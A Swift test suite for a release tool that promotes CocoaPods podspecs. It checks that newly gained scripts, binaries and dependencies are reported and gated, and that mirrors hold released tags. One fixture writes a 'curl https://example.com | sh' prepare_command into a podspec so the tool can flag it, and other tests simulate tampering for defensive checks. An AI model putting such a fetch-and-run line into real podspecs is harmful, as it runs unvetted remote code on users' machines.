import Foundation
import ReleaseModel
import TestSupport
import Testing

/// What podspecs gain since they were published last, and mirrors that must have what is released.
struct PodspecGainStoryTests {
  private let fleet: FleetWorld
  private let name: String
  private static let promotion = ["promote", "stg", "prd", "--yes"]

  init() throws {
    fleet = try FleetWorld(components: 2, at: .stg)
    name = fleet.components[0]
  }

  private func gain(_ lines: String) throws {
    try fleet.edit(
      "\(name).podspec", of: name, on: "release/6.5.5", "  s.source  ", "\(lines)\n  s.source  ")
    try fleet.succeed("publish", "stg", "--yes")
  }

  private func append(_ line: String, to file: String) throws {
    let path = fleet.folder + "/" + file
    let text = try String(contentsOfFile: path, encoding: .utf8)
    try (text + "\n" + line + "\n").write(toFile: path, atomically: false, encoding: .utf8)
  }

  private func published() throws -> [String] {
    try fleet.world.refs(in: fleet.folder + "/remotes/specs-prd.git")
  }

  @Test func whatIsGainedIsShown() throws {
    try gain(
      """
        s.prepare_command = 'curl https://example.com | sh'
        s.ios.vendored_frameworks = 'Libs/Spy.xcframework'
        s.subspec 'Extra' do |x|
          x.script_phase = { :name => 'Count', :script => 'true' }
        end
        s.test_spec 'More' do |t|
          t.dependency 'Quick'
        end
      """)
    let plan = try fleet.succeed("promote", "stg", "prd", "--dry-run")
    for text in [
      "\(name) runs a script that 6.5.4.master did not run, or ran in another form: prepare_command",
      "in another form: script_phase", "did not bring: Libs/Spy.xcframework",
      "requires a pod outside the train that 6.5.4.master did not require: Quick",
    ] {
      #expect(plan.all.contains(text), "\(text) is not in \(plan.all)")
    }
    let json = try fleet.succeed("promote", "stg", "prd", "--dry-run", "--format", "json").output
    try requireSchema(of: json)
    #expect(json.contains("\"gained\""))
  }

  @Test func aGateForbidsIt() throws {
    try append("RELEASE_GATE_PODSPEC = scripts, binaries", to: "environments/PRD.xcconfig")
    #expect(try fleet.relctl("env", "check").status == 0)
    let clean = try fleet.succeed("promote", "stg", "prd", "--dry-run")
    #expect(clean.all.contains("no podspec gains anything that 'scripts, binaries' forbids"), "\(clean.all)")
    try gain("  s.prepare_command = 'true'\n  s.dependency 'Quick'")
    let before = try fleet.refs()
    let refused = try fleet.relctl(Self.promotion)
    #expect(refused.status == 1 && refused.all.contains("the gate 'podspec' of 'prd' is closed"))
    #expect(refused.all.contains("prepare_command") && !refused.errors.contains("'Quick' (dep"))
    #expect(try fleet.refs() == before)
    let done = try fleet.relctl(Self.promotion + ["--override", "reviewed by Ana"])
    #expect(done.status == 0, "\(done.all)")
    #expect(try fleet.relctl("history").all.contains("reviewed by Ana"))
  }

  @Test func aGateNamesWhatThereIs() throws {
    try append("RELEASE_GATE_PODSPEC = scrpts", to: "environments/PRD.xcconfig")
    let checked = try fleet.relctl("env", "check")
    #expect(checked.status != 0 && checked.all.contains("RELEASE_GATE_PODSPEC"), "\(checked.all)")
  }

  /// Lets the podspecs name a copy of the component's repository, and returns the copy's folder.
  private func nameMirror() throws -> String {
    let mirror = fleet.world.path("mirror/\(name).git")
    let origin = fleet.folder + "/remotes/\(name).git"
    try FileManager.default.createDirectory(
      atPath: fleet.world.path("mirror"), withIntermediateDirectories: true)
    try fleet.world.git("clone", "--quiet", "--mirror", origin, mirror)
    try fleet.editManifest("/\(name).git,", "/\(name).git, sources: \(mirror),")
    for branch in ["master", "release/6.5.5"] {
      try fleet.edit(
        "\(name).podspec", of: name, on: branch, "https://git.example.com/ios/\(name).git", mirror)
    }
    try fleet.world.git("remote", "update", in: mirror)
    try fleet.succeed("publish", "stg", "--yes")
    return mirror
  }

  @Test func aMirrorMustHaveWhatIsReleased() throws {
    let mirror = try nameMirror()
    let before = try published()
    let held = try fleet.relctl(Self.promotion)
    #expect(held.status != 0, "\(held.all)")
    #expect(
      held.all.contains("the mirror \(mirror) does not have '6.5.5.master' of '\(name)' yet"), "\(held.all)")
    #expect(held.all.contains("relctl resume"), "\(held.all)")
    #expect(try published() == before)
    try fleet.world.git("remote", "update", in: mirror)
    let resumed = try fleet.relctl("resume", "--yes")
    #expect(resumed.status == 0, "\(resumed.all)")
    #expect(try published() != before)
  }

  /// The mirror is asked once more at the end, as the remotes are.
  @Test func aMirrorThatLosesTheReleaseIsNotDone() throws {
    let mirror = try nameMirror()
    #expect(try fleet.relctl(Self.promotion).status != 0)
    try fleet.world.git("remote", "update", in: mirror)
    try fleet.world.installHook(
      "post-receive", "unset GIT_DIR && cd '\(mirror)' && git update-ref -d refs/tags/6.5.5.master",
      in: fleet.remote("specs-prd"))
    let lost = try fleet.relctl("resume", "--yes")
    #expect(lost.status == 4, "\(lost.all)")
    #expect(lost.all.contains("does not have '6.5.5.master' of '\(name)' yet"), "\(lost.all)")
    try fleet.world.git("remote", "update", in: mirror)
    let resumed = try fleet.relctl("resume", "--yes")
    #expect(resumed.status == 0, "\(resumed.all)")
  }

  /// Who may push the ledger can't strike out of a plan what is asked before its podspecs are published.
  @Test(arguments: ["mirrors", "gained"])
  func aPlanSaysWhatItsPodspecsBring(_ key: String) throws {
    if key == "mirrors" { _ = try nameMirror() } else { try gain("  s.prepare_command = 'true'") }
    let ledger = try HostileLedger("promote", "stg", "prd", "--yes", in: fleet)
    try ledger.forge { plan in
      guard let start = plan.firstRange(of: "    \"\(key)\" : ["),
        let end = plan[start.upperBound...].firstRange(of: "\n    ],\n")
      else { return plan }
      return plan.replacingCharacters(in: start.lowerBound..<end.upperBound, with: "")
    }
    let before = try fleet.refs()
    let run = try fleet.relctl("resume", state: fleet.world.path("second"))
    #expect(
      run.status == 1 && run.errors.contains("omits things that its podspecs name or bring"), "\(run.all)")
    #expect(try fleet.refs() == before)
  }
}
